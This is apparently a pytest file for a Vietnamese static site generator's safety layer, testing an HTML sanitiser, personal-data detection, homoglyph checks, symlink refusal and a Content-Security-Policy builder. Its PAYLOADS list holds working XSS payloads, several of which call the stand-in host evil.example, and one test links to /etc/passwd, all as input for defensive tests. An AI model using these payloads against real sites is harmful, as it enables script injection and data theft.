"""The safety layer on its own: the sanitiser, personal data, look-alike letters, local files, the CSP."""

from __future__ import annotations

import base64
import hashlib
import os
import re
from types import SimpleNamespace

import pytest

from generator.engine import csp
from generator.entries import safety
from test_check_messages import entry

# --- the sanitiser ---------------------------------------------------------------------------------
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=a><button formaction="javascript:alert(1)">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>body{background:url(https://evil.example/)}</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<details open ontoggle=alert(1)>x</details>',
    '<div onmouseover="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<a href="#" id="__config">x</a><h2 id="__drawer">x</h2>',
    '<h2 id=\'y" onmouseover="alert(1)\'>x</h2>',
    '<table><tr><td style="text-align:center" align="javascript:alert(1)">x</td></tr></table>',
]


def _dangerous(html: str) -> list[str]:
    found = []
    if re.search(r"<\s*(script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|noscript|template)\b", html, re.I):
        found.append("tag")
    if re.search(r"\son\w+\s*=", html, re.I):
        found.append("handler")
    if re.search(r"(javascript|vbscript|data):", html, re.I):
        found.append("scheme")
    if re.search(r"evil\.example", html) and not re.search(r'<a [^>]*href="https://evil', html):
        found.append("remote")
    if re.search(r'id="__', html) or re.search(r'id="[^"]*["\s]', html):
        found.append("id")
    if "style=" in html:
        found.append("style")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_removes_every_payload(payload):
    cleaned = safety.clean_html(payload)
    assert not _dangerous(cleaned), cleaned


def test_the_sanitiser_keeps_what_markdown_writes():
    html = ('<h2 id="thuc-trang">Thực trạng</h2>\n<p>Đoạn <strong>đậm</strong>, <em>nghiêng</em>, '
            '<a href="https://example.org/a" title="t">liên kết</a>, <code>mã</code>.</p>\n'
            '<table>\n<thead>\n<tr>\n<th align="center">a</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td align="right">1</td>\n</tr>\n</tbody>\n</table>\n'
            '<div class="admonition note">\n<p class="admonition-title">Chú ý</p>\n<p>nội dung</p>\n</div>\n'
            '<img alt="ảnh" src="../../media/2022/a.png" />\n<dl>\n<dt>A</dt>\n<dd>B</dd>\n</dl>\n'
            '<ol start="3"><li>x</li></ol><blockquote><p>trích</p></blockquote><hr /><pre><code>x</code></pre>'
            '<p>H<sub>2</sub>O, m<sup>2</sup>, <a href="mailto:mttq@example.org">thư</a>, <a href="tel:02613852123">gọi</a></p>')
    cleaned = safety.clean_html(html)
    for kept in ('<h2 id="thuc-trang">', "<strong>đậm</strong>", '<a href="https://example.org/a" title="t"',
                 '<th align="center">', '<td align="right">', '<div class="admonition note">',
                 '<p class="admonition-title">', '<img alt="ảnh" src="../../media/2022/a.png">', "<dt>A</dt>",
                 '<ol start="3">', "<blockquote>", "<pre><code>", "<sub>2</sub>", 'href="mailto:', 'href="tel:'):
        assert kept in cleaned, kept


def test_the_table_of_contents_is_cleaned():
    item = SimpleNamespace(title='a <img src=x onerror=alert(1)> &lt;b&gt;', id='y" onmouseover="alert(1)', children=[
        SimpleNamespace(title="<b>con</b>", id="__config", children=[]),
        SimpleNamespace(title="Giải pháp", id="giai-phap", children=[])])
    safety.clean_toc([item])
    assert "<img" not in item.title and "&lt;b&gt;" in item.title and item.id == ""
    assert item.children[0].title == "con" and item.children[0].id == ""
    assert item.children[1].id == "giai-phap"


# --- personal data ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text, kind, value", [
    ("Gọi 0905 123 456 nhé", "phone", "0905 123 456"),
    ("ĐT: 0905.123.456", "phone", "0905.123.456"),
    ("số 0986-555-444.", "phone", "0986-555-444"),
    ("0905123456", "phone", "0905123456"),
    ("(0261) 3 852 123", "phone", "(0261) 3 852 123"),
    ("0261.3852.123", "phone", "0261.3852.123"),
    ("+84 912 345 678", "phone", "+84 912 345 678"),
    ("+84912345678", "phone", "+84912345678"),
    ("0084 912 345 678", "phone", "0084 912 345 678"),
    ("gọi 0905 123 456 15 lần", "phone", "0905 123 456"),
    ("Zalo: https://zalo.me/0905123456", "phone", "0905123456"),
    ("thư hoa.nguyen@gmail.com nhé", "email", "hoa.nguyen@gmail.com"),
    ("CCCD số 066 123 456 789", "id", "066 123 456 789"),
    ("CMND: 241234567", "id", "241234567"),
    ("số 066123456789", "id", "066123456789"),
    ("căn cước 066.123.456.789", "id", "066.123.456.789"),
])
def test_personal_data_is_found(text, kind, value):
    assert (kind, value) in [(k, v) for _, k, v in safety.personal_data(text)]


@pytest.mark.parametrize("text", [
    "tiết kiệm 50.000.000 đồng", "150.000.000", "150000000 đồng", "1.200.000đ", "hơn 1 200 000 người",
    "ngày 15/03/2022", "2022-03-15", "ngày 01.02.2022", "năm 2020 2021 2022", "0,5 ha", "lúc 07:30",
    "1800 1234", "https://example.org/bai-viet/123456789-tin", "Quyết định số 1234/QĐ-UBND", "mã 2022.0315.01",
    "giai đoạn 2021–2025", "+5 điểm", "tăng 12,5%",
])
def test_money_dates_and_codes_are_not_personal_data(text):
    assert safety.personal_data(text) == []


def test_public_contacts_are_allowed_in_any_spelling(scratch):
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry(
        public_contacts='["0261 3852 123", "MTTQ.EaPo@daknong.gov.vn"]',
        summary='"Liên hệ Ủy ban MTTQ xã qua số 0261.3852.123 hoặc thư mttq.eapo@daknong.gov.vn."'))
    proc = scratch.check()
    assert proc.returncode == 0, proc.stdout


def test_personal_data_in_a_nested_value_is_reported_at_its_line(scratch):
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry(
        recognition='\n  - level: huyen\n    year: 2022\n    title: "Giấy khen, liên hệ 0905 123 456"'))
    proc = scratch.check()
    assert "may-say-ca-phe.md:11: Nội dung có số điện thoại `0905 123 456`" in proc.stdout


# --- look-alike letters and invisible characters ------------------------------------------------------
@pytest.mark.parametrize("value, meant", [("ea-p\u043e", "ea-po"), ("\u0435a-po", "ea-po"), ("ea\u2010po", "ea-po"),
                                          ("ｅａ-ｐｏ", "ea-po"), ("dak-w\u0456l", "dak-wil")])
def test_look_alike_letters_are_named(value, meant):
    hint = safety.lookalike_hint(value, {"ea-po", "dak-wil"})
    assert hint and f"`{meant}`" in hint and "U+" in hint


def test_a_plain_typo_is_not_called_a_look_alike():
    assert safety.lookalike_hint("ea-poo", {"ea-po"}) is None


def test_homoglyph_in_a_replicated_unit_is_explained(scratch):
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry(replicated_in='["dak-w\u0456l"]'))
    proc = scratch.check()
    assert ":8: `replicated_in` (Nhân rộng tại): `dak-wіl` không phải đơn vị" in proc.stdout
    assert "U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I" in proc.stdout
    assert "Có phải ý bạn là `dak-wil`?" in proc.stdout


@pytest.mark.parametrize("name", ["may-say\u200b-ca-phe.md", "may-say-ca-phe\u202e.md", "máy-sấy.md", "may-s\u0430y.md"])
def test_invisible_or_foreign_letters_in_a_file_name_are_refused(scratch, name):
    scratch.write(f"initiatives/2022/{name}", entry())
    proc = scratch.check()
    assert proc.returncode == 1
    assert f"initiatives/2022/{name}:1: " in proc.stdout
    assert "Tên tệp" in proc.stdout or "Đường dẫn tệp" in proc.stdout


def test_a_year_folder_in_other_digits_is_refused(scratch):
    scratch.write("initiatives/\u0662\u0660\u0662\u0662/may-say-ca-phe.md", entry())
    proc = scratch.check()
    assert proc.returncode == 1
    assert "thư mục của năm" in proc.stdout


# --- HTML the validator reports ---------------------------------------------------------------------
def test_code_and_autolinks_are_not_mistaken_for_html(scratch):
    body = ("Gõ `<script>` trong ô mã, xem <https://example.org/a?b=1> và dùng **chữ đậm**, <strong>đậm</strong>, "
            "H<sub>2</sub>O. Bảng, danh sách và [liên kết](https://example.org) đều được.\n")
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry() + "\n" + body * 3)
    proc = scratch.check()
    assert proc.returncode == 0, proc.stdout


def test_nested_refused_tags_are_reported_once(scratch):
    scratch.write("initiatives/2022/may-say-ca-phe.md",
                  entry() + '\n<form action="x">\n<input name="a">\n<button>Gửi</button>\n</form>\n')
    proc = scratch.check()
    assert proc.stdout.count("Thẻ HTML") == 1 and "`<form>`" in proc.stdout


def test_scanning_a_pathological_body_is_fast(scratch):
    import time

    bodies = ["[" * 100_000 + "`" * 50_000 + "<a " * 30_000 + "0" * 20_000 + "a@" * 10_000,
              "<x>\n" * 90_000, '<b title="\n' * 30_000, "<!--" * 90_000, "0905 123 456\n" * 25_000,
              "241234567 \n" * 30_000, "[a](javascript:x)\n" * 20_000]
    for n, body in enumerate(bodies):
        scratch.write(f"initiatives/2022/muc-{n}.md", entry() + "\n" + body + "\n")
    start = time.perf_counter()
    proc = scratch.check()
    assert "Traceback" not in proc.stderr
    assert time.perf_counter() - start < 15
    # A file full of mistakes gets the first hundred and a count, not a wall of messages.
    assert "muc-4.md:112: Còn 24900 chỗ tương tự" in proc.stdout


# --- local files ------------------------------------------------------------------------------------
def test_a_symlink_out_of_the_repository_is_refused_and_never_published(scratch):
    secret = scratch.root / "bi-mat.pdf"
    secret.write_bytes(b"%PDF-1.1 secret")
    (scratch.root / "initiatives/2022").mkdir(parents=True)
    os.symlink(secret, scratch.root / "initiatives/2022/tai-lieu.pdf")
    os.symlink("/etc/passwd", scratch.root / "initiatives/2022/anh.png")
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry(image="anh.png") + "\n[Tài liệu](tai-lieu.pdf)\n")
    proc = scratch.check()
    # Each link is named with its target, where it is used and as a file of the folder.
    assert ":8: `image` (Ảnh): `initiatives/2022/anh.png` là liên kết tượng trưng (symlink) trỏ tới `/etc/passwd`" in proc.stdout
    assert f"Liên kết: `initiatives/2022/tai-lieu.pdf` là liên kết tượng trưng (symlink) trỏ tới `{secret}`" in proc.stdout
    assert not safety.publishable(scratch.root, "initiatives/2022/tai-lieu.pdf")
    assert not safety.publishable(scratch.root, "initiatives/2022/anh.png")


def test_a_file_over_the_limit_is_refused_with_the_limit(scratch):
    big = scratch.root / "initiatives/2022/bao-cao.pdf"
    big.parent.mkdir(parents=True)
    with open(big, "wb") as f:
        f.truncate(12_500_000)  # sparse: no 12 MB written
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry() + "\n[Báo cáo](bao-cao.pdf)\n")
    proc = scratch.check()
    assert "nặng 12,5 MB, vượt giới hạn 10 MB cho tệp .pdf" in proc.stdout
    assert not safety.publishable(scratch.root, "initiatives/2022/bao-cao.pdf")


def test_a_valid_linked_file_is_accepted_and_published(scratch):
    scratch.write("initiatives/2022/huong-dan.pdf", b"%PDF-1.1\n")
    scratch.write("initiatives/2022/may-say-ca-phe.md", entry() + "\n[Hướng dẫn](huong-dan.pdf#trang-2)\n")
    assert scratch.check().returncode == 0
    assert safety.publishable(scratch.root, "initiatives/2022/huong-dan.pdf")
    assert not safety.publishable(scratch.root, "taxonomy.yml")


# --- the Content-Security-Policy --------------------------------------------------------------------
PAGE = """<!doctype html><html><head>
<meta charset="utf-8">
<title>x</title><script>var a = 1;</script>
<script src="x.js"></script><script id="__config" type="application/json">{"a": 1}</script>
</head><body><script type="module">import "./y.js";</script><script>var a = 1;</script></body></html>"""


def _sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_inline_scripts_are_hashed_once_each_and_data_blocks_skipped():
    assert csp.inline_script_hashes(PAGE) == [_sha("var a = 1;"), _sha('import "./y.js";')]


def test_only_lower_case_script_tags_are_allowed_to_run():
    # The theme and our templates write lower-case tags; anything else is left out of the policy, so blocked.
    page = '<SCRIPT>steal()</SCRIPT><scripts>x</scripts><script defer>ok()</script><script>a()</SCRIPT>b()</script>'
    assert csp.inline_script_hashes(page) == [_sha("ok()"), _sha("a()</SCRIPT>b()")]


def test_the_policy_meta_comes_first_and_says_what_the_site_needs():
    out = csp.add_policy(PAGE, allowed={_sha("var a = 1;")})
    head = out[: out.index("<title>")]
    assert head.index('<meta charset="utf-8">') < head.index('http-equiv="Content-Security-Policy"')
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', out).group(1)
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["script-src"].split()[0] == "'self'"
    assert "unsafe" not in directives["script-src"]
    assert _sha("var a = 1;") in directives["script-src"] and "'unsafe-inline'" not in directives["script-src"]
    assert directives["object-src"] == "'none'" and directives["base-uri"] == "'self'"
    assert directives["form-action"] == "'self'" and directives["img-src"] == "'self' data:"
    assert directives["style-src"] == "'self'"
    assert "frame-ancestors" not in directives  # ignored in a <meta>: the embeds stay frameable


def test_a_page_with_its_own_policy_is_left_alone():
    page = '<html><head><meta http-equiv="content-security-policy" content="default-src *"></head></html>'
    assert csp.add_policy(page) == page


@pytest.mark.parametrize("text", ["Đắk Wil", "a & b", "x < y > z", "a\u00a0b", "it's \"quoted\"", "<b>đậm</b>",
                                  "<script>alert(1)</script>tiêu đề", "", "&amp; đã mã hóa"])
def test_plain_toc_titles_skip_the_cleaner_and_come_out_as_it_would_make_them(text):
    import nh3

    assert safety.clean_text(text) == nh3.clean(text, tags=set(), clean_content_tags=safety._DROP_WITH_CONTENT, attributes={})


# --- hidden characters, as classes ------------------------------------------------------------------
def test_the_fast_scan_for_hidden_characters_misses_none_of_them():
    # hidden_chars skips texts made only of the "plain" ranges: none of those ranges may hold a refused character.
    missed = [f"U+{cp:04X}" for cp in range(0x110000)
              if safety.is_hidden(chr(cp)) and not safety._MAYBE_HIDDEN.match(chr(cp))]
    assert not missed


@pytest.mark.parametrize("ch", ["\u200b", "\u2061", "\U000e0041", "\ue000", "\x1b", "\u2028", "\u3164", "\ufffe"])
def test_every_class_of_hidden_character_is_found(ch):
    assert safety.hidden_chars(f"Chữ{ch}Việt") == [ch]


@pytest.mark.parametrize("ch", ["\t", "\n", " ", "\u00a0", "ạ", "“", "…", "₫", "→", "😀", "\u0301"])
def test_ordinary_characters_are_not_hidden(ch):
    assert safety.hidden_chars(f"Chữ{ch}Việt") == []
